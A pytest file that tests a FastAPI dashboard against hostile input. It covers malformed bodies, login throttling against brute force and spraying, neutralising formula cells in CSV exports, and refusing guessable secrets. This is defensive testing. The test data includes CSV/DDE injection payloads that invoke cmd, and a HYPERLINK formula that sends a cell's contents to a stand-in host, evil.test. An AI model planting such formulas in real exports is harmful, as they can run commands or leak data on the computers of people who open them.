"""The web app under hostile input (issue #10, finding 7): bodies that are not JSON, login
guessing, formula cells in exports, guessable secrets, and a demo switch in a production file."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import threading
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from fastapi import FastAPI
from fastapi.testclient import TestClient

from dashboards import WebSettings, create_app, load_web_settings
from dashboards.db import Database
from dashboards.registry_io import import_registry, parse_file, to_csv
from hub.config import load_settings
from mehr.configfile import ConfigError
from mehr_app.cli import main
from tests.dashboards.conftest import PASSWORD, World, csrf_of, form_csrf, settings_for
from tests.dashboards.served import serve
from tests.hub.alerts.conftest import config_dict

STRONG = "Wm7Kq2vXr5LcT0zPy8NbJ4hFd1sGa9Ue3Rt6"


def _bearer(client: TestClient, username: str) -> dict[str, str]:
    r = client.post("/api/v1/login", json={"username": username, "password": PASSWORD})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['token']}"}


def _json_operations(app: FastAPI, world: World) -> list[tuple[str, str]]:
    """Every (method, path) of the API that takes a JSON body, with real ids in the path."""
    ids = {
        "home_id": "home-a",
        "kit_id": "kit-a",
        "alert_id": str(world.alert_a),
        "request_id": str(world.request_a),
    }
    out = []
    for path, ops in app.openapi()["paths"].items():
        for method, op in ops.items():
            if "application/json" in op.get("requestBody", {}).get("content", {}):
                out.append((method.upper(), path.format(**ids)))
    assert len(out) >= 6  # login, preferences, away, requests, actions, state, users
    return out


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/plain", b'{"action": "acknowledge"}'),
        ("text/plain", b"\xff\xfe not even text"),
        ("application/x-www-form-urlencoded", b"action=acknowledge"),
        ("application/json", b"\xff\xfe{"),
        ("application/json", b"[" * 50_000),
        ("application/json", b"9" * 20_000),
        ("application/json", b'{"username": "a\\ud800", "password": 1}'),
    ],
)
def test_a_body_that_is_not_json_gets_a_clear_4xx_on_every_json_route(
    app: FastAPI, world: World, content_type: str, body: bytes
) -> None:
    """text/plain, forms, broken UTF-8, deep nesting, huge numbers: a 4xx that says what the
    route takes, never a 500 (the old validation handler could not serialise the bytes)."""
    with TestClient(app, raise_server_exceptions=False) as client:
        supervisor, admin = _bearer(client, "super-a"), _bearer(client, "admin")
        for method, path in _json_operations(app, world):
            # Accounts and kits' test mode are admin/installer routes; the rest a supervisor's.
            auth = admin if path.startswith(("/api/v1/users", "/api/v1/kits")) else supervisor
            r = client.request(
                method, path, content=body, headers={**auth, "Content-Type": content_type}
            )
            assert 400 <= r.status_code < 500, (method, path, r.status_code, r.text[:200])
            detail = r.json()["detail"]
            assert detail, (method, path)
            if content_type != "application/json":
                assert r.status_code == 415, (method, path, r.status_code)
                assert "Content-Type: application/json" in detail[0]["msg"]


def test_validation_errors_never_echo_the_input(app: FastAPI) -> None:
    """A refused login body does not come back in the answer (it may hold a password)."""
    with TestClient(app) as client:
        r = client.post("/api/v1/login", json={"username": "x" * 65, "password": "hunter2-secret"})
    assert r.status_code == 422
    assert "hunter2-secret" not in r.text and "x" * 65 not in r.text
    assert r.json()["detail"][0]["loc"] == ["body", "username"]


# -- login throttling ---------------------------------------------------------------------------


@pytest.fixture
def served_app(world: World) -> Iterator[str]:
    """The app with the seeded world on a real loopback socket (client addresses matter)."""
    with serve(create_app(settings_for(world.db_path), clock=world.clock)) as base:
        yield base


def _client(base: str, address: str) -> httpx.Client:
    """A client that connects from `address` (any 127.x.y.z is this machine's loopback)."""
    return httpx.Client(
        base_url=base, transport=httpx.HTTPTransport(local_address=address), timeout=30
    )


def _api_login(client: httpx.Client, username: str, password: str) -> httpx.Response:
    return client.post("/api/v1/login", json={"username": username, "password": password})


def test_wrong_passwords_from_one_address_never_lock_the_worker_out_elsewhere(
    served_app: str,
) -> None:
    """Twenty wrong passwords for worker-a from an attacker's address: that address waits, and
    worker-a signs in at once from their own phone, through the form and the API."""
    with _client(served_app, "127.0.0.66") as attacker:
        codes = [_api_login(attacker, "worker-a", f"guess-{i}").status_code for i in range(20)]
    assert codes[:3] == [401, 401, 401]
    assert set(codes[3:]) == {429}
    with _client(served_app, "127.0.0.5") as phone:
        assert _api_login(phone, "worker-a", PASSWORD).status_code == 200
        page = phone.get("/login")
        form = {"username": "worker-a", "password": PASSWORD, "csrf_token": form_csrf(page.text)}
        assert phone.post("/login", data=form).status_code == 303


def test_delays_double_per_username_and_address(served_app: str, world: World) -> None:
    """After three free tries the pair waits 2 s, then 4 s, then 8 s (Retry-After says how
    long); a right password afterwards clears the pair."""
    waits = []
    with _client(served_app, "127.0.0.67") as attacker:
        for _ in range(3):
            assert _api_login(attacker, "fam-a", "wrong").status_code == 401
        for _ in range(3):
            refused = _api_login(attacker, "fam-a", "wrong")
            assert refused.status_code == 429
            wait = int(refused.headers["retry-after"])
            waits.append(wait)
            world.clock.advance(timedelta(seconds=wait - 0.5))
            assert _api_login(attacker, "fam-a", "wrong").status_code == 429  # not yet
            world.clock.advance(timedelta(seconds=0.5))
            assert _api_login(attacker, "fam-a", "wrong").status_code == 401  # one more try
        assert waits == [2, 4, 8]
        world.clock.advance(timedelta(seconds=16))
        assert _api_login(attacker, "fam-a", PASSWORD).status_code == 200
        assert _api_login(attacker, "fam-a", "wrong").status_code == 401  # the pair is clear


def test_guessing_many_names_from_one_address_is_capped(served_app: str) -> None:
    """Spraying one password over 50 usernames from one address: the 51st waits (429); the same
    user from another address is not affected."""
    with _client(served_app, "127.0.0.68") as sprayer:
        codes = [_api_login(sprayer, f"user-{i}", "Summer2025!").status_code for i in range(50)]
        assert set(codes) == {401}
        assert _api_login(sprayer, "worker-b", PASSWORD).status_code == 429
    with _client(served_app, "127.0.0.6") as office:
        assert _api_login(office, "worker-b", PASSWORD).status_code == 200


def test_a_burst_of_parallel_guesses_is_throttled_too(served_app: str) -> None:
    """30 guesses sent at the same moment for one (username, address): each counts before its
    hash is checked, so only the three free tries reach the password check."""
    start = threading.Barrier(30)
    with _client(served_app, "127.0.0.69") as attacker:

        def guess(i: int) -> int:
            start.wait()
            return _api_login(attacker, "duty-a", f"guess-{i}").status_code

        with ThreadPoolExecutor(30) as pool:
            codes = sorted(pool.map(guess, range(30)))
    assert codes == [401] * 3 + [429] * 27


# -- CSV exports --------------------------------------------------------------------------------

_FORMULAS = {
    "res-eq": "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
    "res-plus": "+998901234567",
    "res-minus": "-2+3+cmd|' /C calc'!A0",
    "res-at": "@SUM(1+1)*cmd|' /C calc'!A0",
}
_NOTES = ("=1+1", "@HYPERLINK(\"http://evil.test\")")


def _seed_residents(world: World) -> None:
    rows = [
        {"person_id": pid, "full_name": name, "home_id": "home-a", "mahalla": "Navbahor"}
        for pid, name in _FORMULAS.items()
    ]
    database = Database(world.db_path)
    with database.connection() as conn:
        report = import_registry(
            database, conn, parse_file("r.json", _json_bytes(rows)), world.clock.now()
        )
    assert not report.rejected, report.rejected


def _json_bytes(value: Any) -> bytes:
    return json.dumps(value).encode()


def test_csv_export_neutralises_formula_cells_and_imports_back_unchanged(
    world: World, clients: dict[str, TestClient]
) -> None:
    """Names starting =, +, -, @, tab or CR leave as text (a leading ') in the page's and the
    API's CSV; importing that CSV gives the original names back."""
    _seed_residents(world)
    admin = clients["admin"]
    for url in (
        "/admin/registry/export/residents?format=csv",
        "/api/v1/registry/export/residents?format=csv",
    ):
        r = admin.get(url)
        assert r.status_code == 200, url
        names = {row["person_id"]: row["full_name"] for row in csv.DictReader(io.StringIO(r.text))}
        for pid, name in _FORMULAS.items():
            assert names[pid] == "'" + name, (url, pid)
        for row in csv.reader(io.StringIO(r.text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell)
    back = parse_file("residents.csv", r.text.encode())
    restored = {rec["person_id"]: rec["full_name"] for rec in back if isinstance(rec, dict)}
    assert {pid: restored[pid] for pid in _FORMULAS} == _FORMULAS
    family = clients["fam-a"]
    csrf = csrf_of(family, world.db_path)
    for note in _NOTES:
        made = family.post(
            "/api/v1/homes/home-a/requests",
            json={"kind": "visit", "note": note},
            headers={"X-CSRF-Token": csrf},
        )
        assert made.status_code == 201, made.text
    visits = admin.get("/api/v1/registry/export/visits?format=csv").text
    notes = [row["note"] for row in csv.DictReader(io.StringIO(visits, newline=""))]
    for note in _NOTES:
        assert "'" + note in notes, notes



def test_csv_cells_starting_with_tab_or_cr_are_neutralised_too() -> None:
    """The web's inputs strip whitespace, but stored data from elsewhere may not: a cell that
    starts with a tab or CR also leaves with a leading '."""
    text = to_csv([{"note": "\t=1+1", "room": "\r=2+2", "ok": "Kitchen", "n": -3}], "visits")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows == [{"note": "'\t=1+1", "room": "'\r=2+2", "ok": "Kitchen", "n": "-3"}]


# -- secrets and the demo switch ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("secret", "why"),
    [
        ("changeme" * 4, "placeholder 'changeme'"),
        ("changemechangemechangeme-2026-11", "placeholder 'changeme'"),
        ("k" * 40, "different characters"),
        ("abcdefghijklmnopqrstuvwxyz012345", "runs of neighbouring characters"),
        ("Kq3v9ZrX1pLm" * 3, "repeats a pattern of 12 characters"),
        ("ab12" * 8 + "cd34ef56gh78", "runs of neighbouring characters"),
    ],
)
def test_a_long_but_guessable_secret_is_refused_naming_file_field_and_rule(
    tmp_path: Path, secret: str, why: str
) -> None:
    """32+ characters is not enough: `mehr web` refuses a guessable secret_key (inline or in its
    file) and a guessable alerts key, with the file, the field and the rule in one line."""
    alerts = tmp_path / "alerts.yaml"
    alerts.write_text(yaml.safe_dump(config_dict()))
    secret_file = tmp_path / "web.secret"
    secret_file.write_text(secret)
    good_key = tmp_path / "alerts.secret"
    good_key.write_text(STRONG)
    cases = {
        "secret_key": {"secret_key": secret, "alerts_secret_file": str(good_key)},
        f"secret_key_file ({secret_file})": {
            "secret_key_file": str(secret_file),
            "alerts_secret_file": str(good_key),
        },
        f"alerts_secret_file ({secret_file})": {
            "secret_key": STRONG,
            "alerts_secret_file": str(secret_file),
        },
    }
    for field, values in cases.items():
        cfg = tmp_path / "web.yaml"
        cfg.write_text(
            yaml.safe_dump({"db_path": str(tmp_path / "m.db"), "alerts_config": str(alerts),
                            **values})
        )
        with pytest.raises(ConfigError) as caught:
            load_web_settings(cfg)
        message = str(caught.value)
        assert message.startswith(str(cfg)) and field in message and why in message, message
        assert "at least 32 characters" in message and "\n" not in message
        assert secret not in message  # never the secret itself in a log line
        assert main(["web", "--config", str(cfg)]) == 2


def test_a_random_secret_is_accepted(tmp_path: Path) -> None:
    """What `secrets.token_urlsafe` and `token_hex(16)` make passes the rule."""
    import secrets

    for secret in (secrets.token_urlsafe(32), secrets.token_urlsafe(24), secrets.token_hex(16)):
        assert WebSettings(db_path=tmp_path / "m.db", secret_key=secret).secret_key == secret


def test_demo_switch_in_a_production_file_is_refused(tmp_path: Path) -> None:
    """`demo: true` in web.yaml and `demo_mode: true` in hub.yaml stop start-up with one line
    naming the file and the field; only `mehr demo` (in code) switches the demo on."""
    web_yaml = tmp_path / "web.yaml"
    web_yaml.write_text(f"db_path: {tmp_path / 'm.db'}\ndemo: true\nsecret_key: demo-only-x\n")
    with pytest.raises(ConfigError) as caught:
        load_web_settings(web_yaml)
    assert str(caught.value).startswith(f"{web_yaml}: demo:")
    assert "mehr demo" in str(caught.value)
    assert main(["web", "--config", str(web_yaml)]) == 2
    hub_yaml = tmp_path / "hub.yaml"
    hub_yaml.write_text("demo_mode: true\nalerts_secret: changeme\n")
    with pytest.raises(ConfigError) as caught:
        load_settings(hub_yaml)
    assert str(caught.value).startswith(f"{hub_yaml}: demo_mode:")
    # The demo itself still builds its settings in code.
    assert settings_for(tmp_path / "m.db").demo


@pytest.mark.parametrize(
    "query",
    [
        {"to": "0001-01-01T01:07:00Z"},  # found by bench/fuzz_api.py: the default start overflowed
        {"from": "0001-01-01T00:00:00", "to": "0001-01-02T00:00:00"},
        {"from": "9999-12-31T00:00:00", "to": "9999-12-31T23:59:59"},
    ],
)
def test_report_period_at_the_ends_of_the_calendar_is_a_4xx_or_a_report(
    clients: dict[str, TestClient], query: dict[str, str]
) -> None:
    """Dates near year 1 or 9999 answer 422 or an (empty) report, never a 500."""
    r = clients["super-a"].get("/api/v1/reports/response", params=query)
    assert r.status_code in (200, 422), r.text
    if r.status_code == 422:
        assert "out of range" in r.text


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/api/v1/alerts/2265284427409713344933311545344"),
        ("POST", "/api/v1/alerts/12390141466888376320/actions"),
        ("POST", "/api/v1/requests/1858550842904003430712344576/state"),
        ("GET", "/api/v1/alerts/0"),
    ],
)
def test_ids_beyond_sqlite_integers_are_refused_not_a_500(
    app: FastAPI, method: str, path: str
) -> None:
    """Found by bench/fuzz_api.py: an id with 20-30 digits overflowed SQLite's INTEGER (500)."""
    with TestClient(app, raise_server_exceptions=False) as client:
        auth = _bearer(client, "super-a")
        r = client.request(method, path, headers=auth, json={"action": "acknowledge"})
    assert r.status_code == 422, r.text
    assert r.json()["detail"][0]["loc"][0] == "path"


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("big.csv", b"person_id,full_name\nr1," + b"x" * 200_000 + b"\n", "field limit"),
        ("deep.json", b"[" * 100_000, "nested too deeply"),
    ],
)
def test_an_unreadable_registry_upload_is_a_422_naming_the_problem(
    app: FastAPI, name: str, data: bytes, why: str
) -> None:
    """Found by bench/fuzz_api.py: csv.Error (not a ValueError) escaped the upload as a 500; a
    deeply nested JSON file would have raised RecursionError."""
    with TestClient(app, raise_server_exceptions=False) as client:
        auth = _bearer(client, "admin")
        r = client.post("/api/v1/registry/import", headers=auth, files={"file": (name, data)})
    assert r.status_code == 422, r.text
    assert why in r.json()["detail"]


def test_a_busy_database_answers_503_and_changes_nothing(world: World) -> None:
    """Another writer holds the database past db_busy_timeout_s: the API answers 503 with
    Retry-After (not a 500), and the same action succeeds once the writer is done."""
    app = create_app(settings_for(world.db_path, db_busy_timeout_s=0.2), clock=world.clock)
    with TestClient(app, raise_server_exceptions=False) as client:
        auth = _bearer(client, "worker-a")
        path = f"/api/v1/alerts/{world.alert_a}/actions"
        blocker = sqlite3.connect(world.db_path, isolation_level=None)
        blocker.execute("BEGIN IMMEDIATE")
        try:
            busy = client.post(path, headers=auth, json={"action": "acknowledge"})
        finally:
            blocker.execute("ROLLBACK")
            blocker.close()
        assert busy.status_code == 503, busy.text
        assert busy.headers["retry-after"] == "5"
        assert client.get(f"/api/v1/alerts/{world.alert_a}", headers=auth).json()["state"] != (
            "acknowledged"
        )
        done = client.post(path, headers=auth, json={"action": "acknowledge"})
        assert done.status_code == 200 and done.json()["state"] == "acknowledged"
